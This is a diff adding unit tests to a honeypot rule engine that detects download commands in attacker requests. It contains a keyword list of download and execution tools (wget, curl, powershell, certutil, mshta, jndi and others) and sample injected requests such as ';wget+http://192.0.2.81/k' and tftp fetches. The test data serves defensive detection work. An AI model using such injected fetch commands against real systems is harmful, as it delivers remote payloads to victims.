@@ -1,4 +1,5 @@
 /* test_rules.c - unit tests of the WOWHoneypot-compatible rule engine (load, match, hunt). */
+#include <ctype.h>
 #include <errno.h>
 #include <setjmp.h>
 #include <stdarg.h>
@@ -1116,6 +1117,87 @@ test_hunt_many(void **state)
 	free(big);
 }
 
+/*
+ * Every command keyword is found in any case (keyword_at passes a word on only when a keyword
+ * starts with its first two letters: a word it wrongly turned away would lose its URL here),
+ * with no huntrules.txt patterns to find the URL instead.
+ */
+static void
+test_hunt_keyword_cases(void **state)
+{
+	static const char *const kw[][2] = {
+		{ "wget", "wget" }, { "curl", "curl" }, { "fetch", "fetch" },
+		{ "aria2c", "aria2c" }, { "powershell", "powershell" }, { "pwsh", "powershell" },
+		{ "Invoke-WebRequest", "powershell" }, { "Invoke-RestMethod", "powershell" },
+		{ "iwr", "powershell" }, { "irm", "powershell" },
+		{ "DownloadString", "powershell" }, { "DownloadFile", "powershell" },
+		{ "DownloadData", "powershell" }, { "Net.WebClient", "powershell" },
+		{ "Start-BitsTransfer", "powershell" }, { "certutil", "certutil" },
+		{ "bitsadmin", "bitsadmin" }, { "mshta", "mshta" }, { "msiexec", "msiexec" },
+		{ "regsvr32", "regsvr32" }, { "explorer", "explorer" },
+		{ "lwp-download", "lwp-download" }, { "getstore", "getstore" },
+		{ "java.net.URL", "java" }, { "urlopen", "urlopen" },
+		{ "urlretrieve", "urlretrieve" }, { "XMLHTTP", "xmlhttp" },
+		{ "objXMLHTTP", "xmlhttp" }, { "ServerXMLHTTP", "xmlhttp" }, { "jndi", "jndi" },
+	};
+	char	 text[128], word[64];
+	size_t	 k, j, v;
+
+	(void)state;
+	for (k = 0; k < sizeof(kw) / sizeof(kw[0]); k++)
+		for (v = 0; v < 4; v++) {
+			/* as listed, lower case, upper case, alternating */
+			for (j = 0; kw[k][0][j] != '\0'; j++) {
+				char	 c = kw[k][0][j];
+
+				word[j] = v == 0 ? c : v == 1 ? (char)tolower((unsigned char)c) :
+				    v == 2 || j % 2 ? (char)toupper((unsigned char)c) :
+				    (char)tolower((unsigned char)c);
+			}
+			word[j] = '\0';
+			/* At the very start, and after a separator at the end of a request line. */
+			snprintf(text, sizeof(text), "%s http://192.0.2.80/k", word);
+			hunt_expect(NULL, text, kw[k][1], "http://192.0.2.80/k", NULL);
+			snprintf(text, sizeof(text), "GET /?a=1;%s+http://192.0.2.81/k", word);
+			hunt_expect(NULL, text, kw[k][1], "http://192.0.2.81/k", NULL);
+		}
+	/* A keyword split by percent-encoding is whole once decoded. */
+	hunt_expect(NULL, "w%67et http://192.0.2.82/a", "wget", "http://192.0.2.82/a", NULL);
+	hunt_expect(NULL, "%57GET http://192.0.2.83/a", "wget", "http://192.0.2.83/a", NULL);
+	hunt_expect(NULL, "c%55rl+http://192.0.2.84/a", "curl", "http://192.0.2.84/a", NULL);
+	/* Not whole words: no command. */
+	hunt_expect(NULL, "xwget http://192.0.2.85/a", NULL);
+	hunt_expect(NULL, "wgetx http://192.0.2.85/a", NULL);
+	hunt_expect(NULL, "w-get http://192.0.2.85/a", NULL);
+	/* A keyword ends tftp's arguments: CURL is the next command, 69 is not tftp's port. */
+	hunt_expect(NULL, "tftp -g -r x 192.0.2.86 CURL 69", "tftp", "tftp://192.0.2.86/x", NULL);
+	hunt_expect(NULL, "tftp -g -r x 192.0.2.86 69", "tftp", "tftp://192.0.2.86:69/x", NULL);
+}
+
+/* Keywords cut by the end of the text: nothing read past it (ASan), nothing reported. */
+static void
+test_hunt_text_end(void **state)
+{
+	static const char *const texts[] = {
+		"w", "wg", "wge", "wget", "x;w", "x;wg", "x;wget", "I", "iw", "iwr",
+		"DownloadStrin", "wget h", "curl http:", "tftp -g -r x", "%77", "%7", "w%6",
+	};
+	static struct found	 f;
+	uint8_t			*p;
+	size_t			 k, n;
+
+	(void)state;
+	for (k = 0; k < sizeof(texts) / sizeof(texts[0]); k++) {
+		n = strlen(texts[k]);
+		p = malloc(n);		/* exactly n bytes, no NUL after them */
+		assert_non_null(p);
+		memcpy(p, texts[k], n);
+		memset(&f, 0, sizeof(f));
+		assert_int_equal(rules_hunt(art, p, n, collect, &f), 0);
+		free(p);
+	}
+}
+
 static void
 test_hunt_local_rules(void **state)
 {
@@ -1181,6 +1263,8 @@ main(void)
 		cmocka_unit_test(test_hunt_tftp_ftpget),
 		cmocka_unit_test(test_hunt_windows),
 		cmocka_unit_test(test_hunt_many),
+		cmocka_unit_test(test_hunt_keyword_cases),
+		cmocka_unit_test(test_hunt_text_end),
 		cmocka_unit_test(test_hunt_local_rules),
 		cmocka_unit_test(test_hunt_hostile),
 	};
